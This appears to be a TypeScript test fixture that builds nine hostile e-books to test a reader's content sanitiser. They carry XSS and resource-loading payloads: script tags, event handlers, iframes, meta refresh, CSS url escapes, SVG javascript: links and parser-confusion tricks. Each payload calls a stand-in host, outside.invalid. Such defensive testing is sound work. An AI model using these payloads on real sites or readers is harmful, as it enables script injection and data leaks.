import type { WrittenBook } from './write-book.ts';

/** Where they would have something fetched from, or tell what they have learnt. */
const outside = 'https://outside.invalid';
const run =
  "top.hostile = parent.hostile = window.hostile = true; fetch('https://outside.invalid/')";
const prose = Array.from(
  { length: 40 },
  (_, at) =>
    `<p>Line ${at} of an honest text that has to be read all the same, to its very end.</p>`,
).join('');

function hostile(name: string, body: string, head = ''): WrittenBook {
  return { name: `hostile-${name}`, language: 'en', documents: [{ head, body: body + prose }] };
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${outside}/image"/><use href="${outside}/use#x"/><a href="javascript:${run}"><text y="20">drawn</text><set attributeName="href" to="javascript:${run}"/></a></svg>`;

/** Nine ways in which a book tries to run, to load from elsewhere or to leave its frame. */
export const hostileBooks: readonly WrittenBook[] = [
  hostile('scripts', `<script>${run}</script><script src="${outside}/script.js"/>`),
  hostile(
    'handlers',
    `<p onclick="${run}" onmouseover="${run}">x</p><img src="${outside}/img.png" onerror="${run}" alt=""/><details open="open" ontoggle="${run}"><summary>s</summary>d</details>`,
  ),
  hostile(
    'frames',
    `<iframe src="${outside}/frame"/><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"/><object data="${outside}/object"/><embed src="${outside}/embed"/>`,
  ),
  hostile(
    'refresh',
    '<p>x</p>',
    `<meta http-equiv="refresh" content="0;url=${outside}/refresh"/><base href="${outside}/"/><link rel="preload" as="image" href="${outside}/preload"/><link rel="stylesheet" href="${outside}/sheet.css"/>`,
  ),
  hostile(
    'sheets',
    `<p style="background: url(${outside}/style)">x</p>`,
    `<style>@import "${outside}/import"; @font-face { font-family: x; src: url(${outside}/font) } body { font-family: x; background: u\\72l(${outside}/escaped); cursor: url('${outside}/cursor'), auto }</style>`,
  ),
  hostile(
    'media',
    `<video src="${outside}/video" poster="${outside}/poster" autoplay="autoplay"/><audio src="${outside}/audio" autoplay="autoplay"/><img srcset="${outside}/srcset 1x" src="${outside}/src" alt=""/><picture><source srcset="${outside}/source"/><img src="${outside}/in" alt=""/></picture>`,
  ),
  hostile('drawings', svg),
  hostile(
    'forms-and-links',
    `<form action="${outside}/form"><input type="image" src="${outside}/input" autofocus="autofocus" onfocus="${run}"/><button formaction="javascript:${run}">b</button></form><p><a href="javascript:${run}">js</a> <a href="data:text/html,x">data</a> <a href="${outside}/link" target="_top" ping="${outside}/ping">out</a></p>`,
  ),
  hostile(
    'parsers',
    `<!--><img src="${outside}/comment" onerror="${run}"> --><style><![CDATA[</style><img src="${outside}/cdata" onerror="${run}">]]></style><svg xmlns="http://www.w3.org/2000/svg"><title><![CDATA[</title><img src="${outside}/title" onerror="${run}">]]></title></svg><math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><img src="${outside}/math" alt=""/></annotation-xml></math>`,
  ),
];
